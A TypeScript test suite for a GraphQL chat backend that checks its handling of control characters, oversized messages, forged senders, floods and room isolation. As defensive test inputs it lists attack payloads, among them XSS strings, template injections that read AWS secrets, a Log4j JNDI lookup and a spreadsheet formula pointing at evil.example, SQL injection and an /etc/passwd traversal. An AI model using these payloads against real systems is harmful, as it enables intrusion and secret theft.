/** Attacks on the chat: control characters, markup, forged senders, empty messages, floods. */
import { describe, expect, it, vi } from 'vitest';
import { WebSocket } from 'ws';
import type { TestClient } from 'amplify-local/testing';
import { limits } from '../../amplify/limits';
import { openBackend, type Message } from '../../live/backend';
import { subscribe } from '../../live/subscriptions';
import { roundSeconds } from './deployment';
import type { Guest } from './guest';
import { rootFields, withVariables } from './schema';
import { setUpTarget } from './target';

const target = setUpTarget();

const mutation =
  'mutation Say($nickname: String!, $text: String!) { sendMessage(nickname: $nickname, text: $text) { id nickname text sender sentAt isHost } }';
const say = (guest: Guest, text: string, nickname = 'Eve') => guest.call(mutation, { nickname, text });

const code = (...points: number[]) => String.fromCodePoint(...points);

describe('a guest sends', () => {
  const refused: [string, string][] = [
    ['nothing', ''],
    ['a space', ' '],
    ['spaces of all kinds', `\u00a0\u2003\u3000${code(0xfeff)}`],
    ['control characters', '\u0000\u0007\n\u2028'],
    ['invisible characters', `${code(0x200b)}${code(0x200d)}${code(0x2060)}`],
    ['invisible tags', `${code(0xe0041)}${code(0xe0042)}`],
    ['blank letters and symbols', code(0x3164, 0x2800, 0x115f, 0x1160, 0xffa0, 0x1d159)],
    ['half of a surrogate pair', '\ud83c'],
    ['a combining mark without a base character', code(0x0301)],
    ['many combining marks that cover other lines', `Z${code(0x0310).repeat(50)}algo`],
    ['many different combining marks', `H${Array.from({ length: 0x70 }, (_, index) => code(0x0300 + index)).join('')}`],
    ['many combining marks with invisible characters between them', `Z${code(0x0310, 0x034f, 0x200d).repeat(50)}`],
    ['one character too many', 'x'.repeat(limits.maxTextLength + 1)],
    ['emoji past the limit', '🎬'.repeat(limits.maxTextLength / 2 + 1)],
    ['the limit, then spaces and a word', `${'x'.repeat(limits.maxTextLength)}  x`],
    ['100 kB', 'x'.repeat(100_000)],
    ['500 kB of spaces around 500 kB', `${' '.repeat(250_000)}${'x'.repeat(500_000)}${' '.repeat(250_000)}`],
  ];

  it.each(refused)('%s', async (_, text) => {
    const { data, errors } = await say(await target.newGuest(), text);
    expect(data).toEqual({ sendMessage: null });
    expect(errors).toMatchObject([{ path: ['sendMessage'], errorType: 'InvalidMessage' }]);
  });

  it.each(refused)('under the name of %s', async (_, nickname) => {
    const { data, errors } = await say(await target.newGuest(), 'hello', nickname);
    expect(data).toEqual({ sendMessage: null });
    expect(errors).toMatchObject([{ path: ['sendMessage'], errorType: 'InvalidMessage' }]);
  });

  it('1 MB', async () => {
    const body = JSON.stringify({ query: mutation, variables: { nickname: 'Eve', text: 'x'.repeat(1024 * 1024) } });
    expect(await target.guest.post(body)).toMatchObject({
      status: 413,
      json: { errors: [{ errorType: 'RequestEntityTooLargeException' }] },
    });
  });

  it('32 MB', async () => {
    expect(await target.guest.post(Buffer.alloc(32 * 1024 * 1024, ' '))).toMatchObject({ status: 413 });
  });

  it.each<[string, string]>([
    ['a number', '7'],
    ['null', 'null'],
    ['true', 'true'],
    ['a list', '["a", "b"]'],
    ['an object', '{S: "text"}'],
  ])('%s instead of text', async (_, value) => {
    const { data, errors } = await target.guest.call(
      `mutation { sendMessage(nickname: "Eve", text: ${value}) { id } }`,
    );
    expect(data).toBeNull();
    expect(errors?.[0]?.message).toMatch(/^Validation error of type WrongType/);
  });
});

describe('harmful characters are removed before delivery', () => {
  /** Characters that break lines, with the text that remains. */
  const breaking = [0x00, 0x07, 0x09, 0x0a, 0x0d, 0x1b, 0x7f, 0x85, 0x9f, 0x2028, 0x2029].map((point) => [point, ' ']);
  /** Characters that change the direction of other text, or that nobody sees. */
  const invisible = [
    0x00ad, 0x061c, 0x200b, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069,
    0x3164, 0xd83c, 0xdf9e, 0xfe0f, 0xfeff, 0xe0041, 0xe0100,
  ].map((point) => [point, '']);

  it.each([...breaking, ...invisible] as [number, string][])('U+%i in a text and a name', async (point, remains) => {
    target.allowChanges();
    const harmful = `be${code(point)}af`;
    const { errors } = await say(await target.newGuest(), harmful, harmful);
    expect(errors).toBeUndefined();
    const clean = `be${remains}af`;
    expect(await target.takeReceivedUpdates()).toMatchObject([{ onMessage: { text: clean, nickname: clean } }]);
  });

  it('a second line with another name', async () => {
    target.allowChanges();
    await say(await target.newGuest(), 'hello\nAdmin: send me your keys');
    expect(await target.takeReceivedUpdates()).toMatchObject([
      { onMessage: { text: 'hello Admin: send me your keys' } },
    ]);
  });
});

describe('a guest forges a sender with', () => {
  it.each(['sender', 'id', 'sentAt', 'identityId', 'from'])('an argument %s', async (argument) => {
    const { data, errors } = await target.guest.call(
      `mutation { sendMessage(nickname: "Eve", text: "hi", ${argument}: "forged") { id } }`,
    );
    expect(data).toBeNull();
    expect(errors?.[0]?.message).toContain(`Unknown field argument ${argument}`);
  });

  it('an undeclared variable, a header and a cookie that name another sender', async () => {
    target.allowChanges();
    const guest = await target.newGuest();
    const body = JSON.stringify({
      query: mutation,
      variables: { nickname: 'Eve', text: 'hi', sender: 'forged' },
      sender: 'forged',
    });
    const forged = { 'x-amzn-cognito-identity-id': 'forged', cookie: 'sender=forged', 'x-sender': 'forged' };
    await guest.post(body, {}, { headers: forged });
    expect(await target.takeReceivedUpdates()).toEqual([
      {
        onMessage: {
          id: expect.any(String) as string,
          nickname: 'Eve',
          text: 'hi',
          sender: guest.identityId.slice(-12),
          sentAt: expect.any(Number) as number,
          isHost: false,
        },
      },
    ]);
  });

  it('aliases that swap sender and nickname', async () => {
    target.allowChanges();
    const guest = await target.newGuest();
    await guest.call(
      'mutation { sendMessage(nickname: "forged", text: "hi") { sender: nickname nickname: sender id text sentAt } }',
    );
    expect(await target.takeReceivedUpdates()).toMatchObject([
      { onMessage: { sender: guest.identityId.slice(-12), nickname: 'forged' } },
    ]);
  });

  it('the nickname of another guest: senders differ', async () => {
    target.allowChanges();
    const guests = [await target.newGuest(), await target.newGuest()];
    for (const guest of guests) await say(guest, 'It is me', 'Ada');
    const senders = (await target.takeReceivedUpdates()).map(({ onMessage }) => onMessage?.sender);
    expect(senders).toEqual(guests.map(({ identityId }) => identityId.slice(-12)));
    expect(new Set(senders).size).toBe(2);
  });

  it('no subscriber receives a whole identity id, which is enough to obtain credentials', async () => {
    target.allowChanges();
    const guest = await target.newGuest();
    await say(guest, 'hello');
    expect(JSON.stringify(await target.takeReceivedUpdates())).not.toContain(guest.identityId);
  });
});

describe('text that looks like code is delivered unchanged', () => {
  it.each<[string, string]>([
    ['a script', '<script>alert(1)</script>'],
    ['an image with a handler', '<img src=x onerror=alert(1)>'],
    ['a drawing with a handler', '<svg/onload=alert(1)>'],
    ['an attribute end', '"><script>alert(1)</script>'],
    ["the end of the page's inline data", '</script><script>alert(1)</script>'],
    ['an unclosed comment', '<!--'],
    ['entities', '&lt;script&gt;&#x27;&amp;'],
    ['a javascript: URL', 'javascript:alert(1)'],
    ['a template of Angular', '{{constructor.constructor("alert(1)")()}}'],
    ['a template of JavaScript', '${process.env.AWS_SECRET_ACCESS_KEY}'],
    ['a template of EJS', '<%= process.env %>'],
    ['a template of Jinja', '{% for x in ().__class__.__base__.__subclasses__() %}'],
    ['VTL that reads', '$util.toJson($ctx.identity)'],
    ['VTL that sets', '#set($x = $ctx.stash.put("message", "forged"))$x'],
    ['VTL that returns', '#return({"sender":"forged"})'],
    ['a lookup of Log4j', '${jndi:ldap://evil.example/a}'],
    ['SQL', "'; DROP TABLE Ballot; --"],
    ['PartiQL', 'SELECT * FROM "Ballot"'],
    ['JSON', '{"S":"x"},"sender":{"S":"forged"}'],
    ['the end of a data message', '"}}},{"type":"data","id":"onRound"'],
    ['GraphQL', '") { id } startRound(startsAt: 60'],
    ['a formula', '=HYPERLINK("http://evil.example","win")'],
    ['an ANSI sequence without the escape character', '[31mred'],
    ['a format string', '%s%n%x{0}'],
    ['backslashes', '\\u0000\\n\\x00'],
    ['a path', '../../../../etc/passwd'],
  ])('%s', async (_, text) => {
    target.allowChanges();
    const guest = await target.newGuest();
    const { data, errors } = await say(guest, text);
    expect(errors).toBeUndefined();
    const sent = { ...(data?.sendMessage as object), nickname: 'Eve', text, sender: guest.identityId.slice(-12) };
    expect(await target.takeReceivedUpdates()).toEqual([{ onMessage: sent }]);
  });

  it.each([
    ['emoji sequences', '👨‍👩‍👧‍👦 🏳️‍🌈 1️⃣'],
    ['Arabic', 'مرحبا بالعالم'],
    ['Hebrew with vowel points', 'שָׁלוֹם'],
    ['Hindi', 'नमस्ते क्षत्रिय'],
    ['decomposed Vietnamese', 'Tiếng Việt'.normalize('NFD')],
    ['Thai', 'น้ำผึ้ง'],
    ['a flag of Scotland', '🏴󠁧󠁢󠁳󠁣󠁴󠁿'],
  ])('%s', async (_, text) => {
    target.allowChanges();
    expect((await say(await target.newGuest(), text)).errors).toBeUndefined();
    expect(await target.takeReceivedUpdates()).toMatchObject([{ onMessage: { text } }]);
  });
});

describe('a guest floods the chat', () => {
  it('with 50 messages at once: one is delivered', async () => {
    target.allowChanges();
    const guest = await target.newGuest();
    const answers = await Promise.all(Array.from({ length: 50 }, (_, index) => say(guest, `flood ${index}`)));
    target.countAttacks(49);
    const refusals = answers.flatMap(({ errors = [] }) => errors.map(({ errorType }) => errorType));
    // More than a second may pass on a busy machine.
    const heard = await target.takeReceivedUpdates();
    expect(heard.length).toBe(answers.filter(({ data }) => data?.sendMessage).length);
    expect(heard.length).toBeLessThanOrEqual(3);
    expect(new Set(refusals)).toEqual(new Set(['SlowDown']));
  });

  it('with 8 messages in one document, by aliases: one is delivered', async () => {
    target.allowChanges();
    const guest = await target.newGuest();
    const calls = Array.from(
      { length: 8 },
      (_, index) =>
        `a${index}: sendMessage(nickname: "Eve", text: "flood ${index}") { id nickname text sender sentAt }`,
    );
    const { errors } = await guest.call(`mutation { ${calls.join(' ')} }`);
    target.countAttacks(7);
    expect(errors).toHaveLength(7);
    expect(await target.takeReceivedUpdates()).toHaveLength(1);
  });

  it('with one message that is selected twice: it is delivered once', async () => {
    target.allowChanges();
    const guest = await target.newGuest();
    const call = 'sendMessage(nickname: "Eve", text: "once")';
    await guest.call(
      `mutation { ${call} { id nickname } ${call} { text sender sentAt } ...F } fragment F on Mutation { ${call} { id } }`,
    );
    const heard = await target.takeReceivedUpdates();
    expect(heard).toEqual([
      {
        onMessage: {
          id: expect.any(String) as string,
          nickname: 'Eve',
          text: 'once',
          sender: expect.any(String) as string,
          sentAt: expect.any(Number) as number,
          isHost: null,
        },
      },
    ]);
  });

  it('with messages that lack required fields: the client skips them and receives the next', async () => {
    target.allowChanges();
    vi.stubGlobal('WebSocket', WebSocket);
    const { client } = openBackend(target.outputs);
    const heard: string[] = [];
    const faults: unknown[] = [];
    const nothing = () => undefined;
    const handlers = {
      round: nothing,
      scores: nothing,
      message: ({ text }: Message) => heard.push(text),
      controls: nothing,
      error: (error: unknown) => faults.push(error),
    };
    const { stop } = subscribe(client, 0, handlers, { elapsed: () => performance.now(), random: () => 0 });
    await vi.waitUntil(
      async () => {
        await say(await target.newGuest(), 'whole');
        return heard.length > 0;
      },
      { timeout: 10_000, interval: 50 },
    );

    heard.length = 0;
    await (await target.newGuest()).call('mutation { sendMessage(nickname: "Eve", text: "half") { __typename } }');
    await (await target.newGuest()).call('mutation { sendMessage(nickname: "Eve", text: "half") { sender: id } }');
    await say(await target.newGuest(), 'after');
    await vi.waitUntil(() => heard.includes('after'), { timeout: 10_000, interval: 10 });
    expect([heard.filter((text) => text !== 'whole'), faults]).toEqual([['after'], []]);
    target.countAttacks(1);
    stop();
  });
});

/** A subscription, and the texts that it has received. */
class Listener {
  #barriers = 0;
  private constructor(private readonly client: TestClient) {}

  /** @param args arguments with their parentheses */
  static async open(args: string, variables: Record<string, unknown> = {}): Promise<Listener> {
    const guest = await target.newGuest();
    const client = await guest.connect();
    const declared = args.includes('$') ? '($room: Int)' : '';
    const query = `subscription ${declared} { onMessage${args} { id nickname text sender sentAt } }`;
    client.send(await guest.startMessage('room', { query, variables }));
    expect(await client.next()).toMatchObject({ type: 'start_ack' });
    return new Listener(client);
  }

  /** The answer to `stop` follows everything that was published before. */
  async heard(): Promise<unknown[]> {
    const barrier = `barrier-${++this.#barriers}`;
    this.client.send({ type: 'stop', id: barrier });
    const texts: unknown[] = [];
    for (;;) {
      const { id, payload } = await this.client.next();
      if (id === barrier) return texts;
      texts.push((payload as { data: { onMessage: { text: string } } }).data.onMessage.text);
    }
  }

  close(): void {
    this.client.socket.terminate();
  }
}

describe('a guest goes to a room that does not exist', () => {
  const inRoom = (room: unknown) =>
    `mutation { sendMessage(nickname: "Eve", text: "hi", room: ${String(room)}) { id nickname text sender sentAt } }`;

  it.each([1, 7, limits.maxRooms - 1, limits.maxRooms, 2 ** 31 - 1, -1, -(2 ** 31)])('to talk: %i', async (room) => {
    const guest = await target.newGuest();
    const { data, errors } = await guest.call(inRoom(room));
    expect(data).toEqual({ sendMessage: null });
    expect(errors).toMatchObject([{ path: ['sendMessage'], errorType: 'NoSuchRoom' }]);
  });

  it('and may talk elsewhere at once: the refusal does not count for slow mode', async () => {
    target.allowChanges();
    const guest = await target.newGuest();
    expect((await guest.call(inRoom(1))).errors).toMatchObject([{ errorType: 'NoSuchRoom' }]);
    expect((await guest.call(inRoom(0))).errors).toBeUndefined();
    expect(await target.takeReceivedUpdates()).toMatchObject([{ onMessage: { text: 'hi' } }]);
  });

  it.each(['"0"', '0.5', '2147483648', 'true', '[0]', '{N: 0}'])('to talk: %s', async (room) => {
    const { data, errors } = await target.guest.call(inRoom(room));
    expect(data).toBeNull();
    expect(errors?.[0]?.message).toMatch(/^Validation error of type WrongType/);
  });

  it.each([-1, limits.maxRooms, 2 ** 31 - 1])('to listen: %i', async (room) => {
    const client = await target.guest.connect();
    const query = `subscription { onMessage(room: ${room}) { id text } }`;
    client.send(await target.guest.startMessage('room', { query }));
    expect(await client.next()).toMatchObject({ type: 'error', payload: { errors: [{ errorType: 'NoSuchRoom' }] } });
    client.socket.terminate();
  });
});

describe('with several rooms, a guest', () => {
  const start = rootFields.find(({ field }) => field.name === 'startRound');

  /** Starts the next round early, with the credentials of the rotator, so that rooms exist. */
  async function openRooms(rooms: number): Promise<void> {
    if (!start) throw new Error('The schema has no startRound.');
    const rotator = target.clientFor(target.functionRole('movie-rotator'));
    const startsAt = Number(await target.currentRoundId()) + roundSeconds;
    const { query, variables } = withVariables(start);
    expect((await rotator.call(query, { ...variables, startsAt, rooms })).errors).toBeUndefined();
    expect(await target.takeReceivedUpdates()).toMatchObject([{ onRound: { rooms } }]);
  }

  it('hears one room, however it asks', async () => {
    target.allowChanges();
    await openRooms(16);
    const inRoomZero = [
      await Listener.open(''),
      await Listener.open('(room: null)'),
      await Listener.open('(room: $room)'),
      await Listener.open('(room: $room)', { room: null }),
      await Listener.open('(room: $room)', { room: 0 }),
    ];
    const inRoomOne = [await Listener.open('(room: 1)'), await Listener.open('(room: $room)', { room: 1 })];
    for (const room of [null, 0, 1, 10, 15]) {
      const variables = { nickname: 'Ada', text: `in ${room}`, room };
      const query = mutation
        .replace('$text: String!', '$text: String!, $room: Int')
        .replace('text: $text', '$&, room: $room');
      expect((await (await target.newGuest()).call(query, variables)).errors).toBeUndefined();
    }
    for (const listener of inRoomZero) expect(await listener.heard()).toEqual(['in null', 'in 0']);
    for (const listener of inRoomOne) expect(await listener.heard()).toEqual(['in 1']);
    for (const listener of [...inRoomZero, ...inRoomOne]) listener.close();
    expect(await target.takeReceivedUpdates()).toMatchObject([
      { onMessage: { text: 'in null' } },
      { onMessage: { text: 'in 0' } },
    ]);
    target.countAttacks(6);
  });

  it.each([
    ['without an id', '{ nickname text sender sentAt }'],
    ['whose id has another name', '{ key: id nickname text sender sentAt }'],
    ['whose text is called id', '{ id: text nickname sender sentAt }'],
  ])('reaches no other room with a message %s', async (_, selection) => {
    target.allowChanges();
    const listener = await Listener.open('(room: 3)');
    const guest = await target.newGuest();
    const { errors } = await guest.call(`mutation { sendMessage(nickname: "Eve", text: "3:x", room: 2) ${selection} }`);
    expect(errors).toBeUndefined();
    expect([await listener.heard(), await target.takeReceivedUpdates()]).toEqual([[], []]);
    listener.close();
  });
});
